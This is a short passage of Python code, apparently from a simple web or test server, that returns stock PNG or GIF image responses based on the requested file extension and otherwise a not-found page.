            return Page(200, files.PNG, ctype="image/png", charset=None)
        if path.endswith((".gif", ".jpg", ".jpeg")):
            return Page(200, files.GIF, ctype="image/gif", charset=None)
    return not_found()
